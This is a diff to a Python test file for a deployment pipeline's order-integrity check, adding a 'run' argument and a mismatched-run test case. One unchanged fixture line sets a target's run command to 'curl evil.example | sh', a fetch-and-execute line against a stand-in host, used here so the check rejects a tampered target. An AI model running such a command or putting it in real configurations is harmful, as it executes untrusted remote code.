@@ -165,7 +165,7 @@ def test_an_order_is_held_against_the_ledger() -> None:
     """An order that another job handed on is that of event, ledger and ciml.yaml, or it is not carried out."""
     state = ledger(deployment(1))
     good, targets = order(state=state), {"production": TARGET}
-    fault_of = partial(order_fault, state=state, targets=targets, tag=good.ref, head=good.commit)
+    fault_of = partial(order_fault, state=state, targets=targets, tag=good.ref, head=good.commit, run="")
     assert fault_of(good) is None
 
     elsewhere = msgspec.structs.replace(TARGET, run="curl evil.example | sh")
@@ -174,6 +174,7 @@ def test_an_order_is_held_against_the_ledger() -> None:
         "its version": order(3, state=state),
         "its files": msgspec.structs.replace(good, artifact=artifact(1)),
         "its target": msgspec.structs.replace(good, target=elsewhere),
+        "its run": msgspec.structs.replace(good, run="17"),
         "its tag": order(state=state, ref="v9"),
         "its commit": msgspec.structs.replace(good, commit=CommitSha("e" * 40)),
     }
@@ -190,14 +191,14 @@ def test_an_order_that_follows_the_champion() -> None:
     first = Promotion(nonce="p", gen=0, version=2)
     state, targets = ledger(first), {"production": TARGET}
     followed = msgspec.structs.replace(order(state=state, ref=""), commit=registration(2).commit)
-    assert order_fault(followed, state, targets, tag=None, head=None) is None
+    assert order_fault(followed, state, targets, tag=None, head=None, run="") is None
     elsewhere = msgspec.structs.replace(followed, commit=CommitSha("e" * 40))
-    assert isinstance(order_fault(elsewhere, state, targets, tag=None, head=None), IntegrityError)
-    assert isinstance(order_fault(followed, state, targets, tag="v2", head=followed.commit), IntegrityError)
+    assert isinstance(order_fault(elsewhere, state, targets, tag=None, head=None, run=""), IntegrityError)
+    assert isinstance(order_fault(followed, state, targets, tag="v2", head=followed.commit, run=""), IntegrityError)
 
     moved = ledger(first, Promotion(nonce="q", gen=1, version=1, champion=state.champion_identity, by_hand=True))
     for later in (moved, ledger()):
-        fault = order_fault(followed, later, targets, tag=None, head=None)
+        fault = order_fault(followed, later, targets, tag=None, head=None, run="")
         assert isinstance(fault, RaceError) and "version 2 of m is no longer the champion" in fault.message
 
 
